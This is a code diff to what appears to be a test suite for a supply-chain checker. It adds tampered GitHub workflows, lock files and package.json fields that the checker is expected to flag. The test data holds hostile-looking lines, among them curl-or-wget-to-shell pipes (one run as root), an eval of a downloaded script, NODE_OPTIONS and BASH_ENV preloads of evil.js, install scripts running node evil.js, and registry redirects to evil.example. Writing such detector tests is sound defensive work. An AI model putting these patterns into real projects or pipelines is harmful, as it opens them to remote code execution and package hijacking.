@@ -47,6 +47,33 @@ const WORKFLOW_CHANGES: Readonly<Record<string, readonly [code: string, change: 
   "a job with all rights": ["open-permissions", put(/permissions: \{ contents: \w+ \}/, "permissions: write-all")],
   "a job without a limit": ["no-time-limit", put(/ +timeout-minutes: \d+\n/, "")],
   "another runner": ["other-runner", put("runs-on: ubuntu-latest", "runs-on: self-hosted")],
+  "an action of another owner by its commit": ["unpinned-action", put(/actions\/checkout@/, "evil/checkout@")],
+  "an action beside the named one": ["unpinned-action", put(/actions\/checkout@/, "actions/checkout/../../evil/x@")],
+  "a checkout of another repository": [
+    "foreign-checkout",
+    put("persist-credentials: false", "persist-credentials: false, repository: evil/x"),
+  ],
+  "a checkout with a person's token": [
+    "foreign-checkout",
+    put("persist-credentials: false", 'persist-credentials: false, token: "${{ secrets.PAT }}"'),
+  ],
+  "a checkout with submodules": ["foreign-checkout", put("persist-credentials: false", "persist-credentials: false, submodules: true")],
+  "packages of another registry": [
+    "other-registry",
+    put(/node-version: ("[^"]+")/, 'node-version: $1, registry-url: "https://evil.example"'),
+  ],
+  "code that node loads first": [
+    "loaded-code",
+    put(/( +)- run: /, "$1- { run: x, env: { NODE_OPTIONS: --require=./evil.js } }\n$1- run: "),
+  ],
+  "a script that bash reads first": ["loaded-code", put(/( +)- run: /, "$1- { run: x, env: { BASH_ENV: ./evil.sh } }\n$1- run: ")],
+  "a registry by a variable": [
+    "loaded-code",
+    put(/( +)- run: /, '$1- { run: x, env: { npm_config_registry: "https://evil.example" } }\n$1- run: '),
+  ],
+  "a shell of the repository": ["foreign-shell", put(/( +)- run: /, '$1- shell: "./evil {0}"\n$1  run: ')],
+  "a run for any comment on a discussion": ["hostile-event", put(/^on:\n/m, "on:\n  discussion_comment:\n")],
+  "a run that other workflows call": ["hostile-event", put(/^on:\n/m, "on:\n  workflow_call:\n")],
   "a run with the rights of the base for any pull request": ["hostile-event", put(/^on:\n/m, "on:\n  pull_request_target:\n")],
   "a run for any comment": ["hostile-event", put(/^on:\n/m, "on:\n  issue_comment:\n")],
   "a run after any other": ["hostile-event", put(/^on:\n/m, "on:\n  workflow_run: { workflows: [ci] }\n")],
@@ -58,6 +85,12 @@ const RUN_CHANGES: Readonly<Record<string, readonly [code: string, step: string]
   "a branch as code": ["injected-expression", "git checkout ${{ github.head_ref }}"],
   "a script from a page": ["downloaded-script", "curl -fsSL https://example.com/x | bash"],
   "a script from a page, by wget": ["downloaded-script", "wget -qO- https://example.com/x | sh"],
+  "a script from a page, by node": ["downloaded-script", "curl -fsSL https://example.com/x | node"],
+  "a script from a page, as root": ["downloaded-script", "curl -fsSL https://example.com/x | sudo bash"],
+  "a script from a page, by substitution": ["downloaded-script", "bash <(curl -fsSL https://example.com/x)"],
+  "a script from a page, in an evaluation": ["downloaded-script", 'eval "$(wget -qO- https://example.com/x)"'],
+  "a package that npm executes": ["unlocked-install", "npm exec left-pad"],
+  "a package that another program executes": ["unlocked-install", "pnpm dlx left-pad"],
   "packages outside of the lock file": ["unlocked-install", "npm install left-pad"],
   "a package run by name": ["unlocked-install", "npx left-pad"],
 };
@@ -155,6 +188,8 @@ const ofLock: AttackVariants<Change> = {
   "the lock file: a git repository": lockChange("lock-host", (_, entry) => (entry["resolved"] = "git+ssh://git@github.com/x/yaml.git#abc")),
   "the lock file: a file": lockChange("lock-host", (_, entry) => (entry["resolved"] = "file:../yaml.tgz")),
   "the lock file: a link": lockChange("lock-link", (_, entry) => (entry["link"] = true)),
+  "the lock file: a package with an install script": lockChange("lock-script", (_, entry) => (entry["hasInstallScript"] = true)),
+  "the lock file: another package under the name": lockChange("lock-alias", (_, entry) => (entry["name"] = "evil")),
   "the lock file: a range": lockChange("lock-version", (_, entry) => (entry["version"] = "^2.0.0")),
   "the lock file: a folder outside": lockChange("lock-path", (lock, entry) => (lock.packages["../evil"] = { ...entry })),
   "the lock file: a folder of the repository": lockChange("lock-path", (lock, entry) => (lock.packages["src/evil"] = { ...entry })),
@@ -165,7 +200,7 @@ const packageChange = (expected: string, change: (text: string) => string): Expe
 const ofPackage: AttackVariants<Change> = {
   "package.json: a prepare script": packageChange("install-script", put(/"prepack": "[^"]+"/, '"prepare": "node evil.js"')),
   ...each(
-    ["preinstall", "install", "postinstall", "prepublish"].map((name) => [
+    ["preinstall", "install", "postinstall", "prepublish", "prepublishOnly", "postpack", "version"].map((name) => [
       `package.json: a ${name} script`,
       packageChange("install-script", put('"scripts": {', `"scripts": {"${name}": "node evil.js",`)),
     ]),
@@ -176,6 +211,21 @@ const ofPackage: AttackVariants<Change> = {
       packageChange("inexact-version", put(/"yaml": "[^"]+"/, `"yaml": "${range}"`)),
     ]),
   ),
+};
+
+const fieldChange = (expected: string, name: string, value: unknown): Expected =>
+  packageChange(expected, (text) => JSON.stringify({ ...(JSON.parse(text) as object), [name]: value }));
+const ofFields: AttackVariants<Change> = {
+  "package.json: a package that is packed along": fieldChange("foreign-field", "bundleDependencies", ["yaml"]),
+  "package.json: a folder as a package": fieldChange("foreign-field", "workspaces", ["evil"]),
+  "package.json: a native build": fieldChange("foreign-field", "gypfile", true),
+  "package.json: a package manager from a page": fieldChange("foreign-field", "packageManager", "yarn@https://evil.example/yarn.js"),
+  "package.json: an import of other code": fieldChange("foreign-field", "imports", { "#core": "./evil.js" }),
+  "package.json: another name": fieldChange("other-name", "name", "enki"),
+  "package.json: a program in the place of npm": fieldChange("other-name", "bin", { enki: "bin/enki.cjs", npm: "evil.js" }),
+  "package.json: another registry": fieldChange("other-registry", "publishConfig", { registry: "https://evil.example" }),
+  "package.json: an override by another package": fieldChange("inexact-version", "overrides", { yaml: "npm:evil@1.0.0" }),
+  "package.json: an override below a package": fieldChange("inexact-version", "overrides", { probot: { yaml: "github:x/yaml" } }),
 };
 
 const appChange = (expected: string, change: (text: string) => string): Expected => ({ file: "app.yml", expected, change });
@@ -204,4 +254,4 @@ const ofApp: AttackVariants<Change> = {
   ),
 };
 
-attackFamily<Change>("supply", { ...each(ofWorkflows), ...ofStep, ...ofLock, ...ofPackage, ...ofApp }, propose);
+attackFamily<Change>("supply", { ...each(ofWorkflows), ...ofStep, ...ofLock, ...ofPackage, ...ofFields, ...ofApp }, propose);
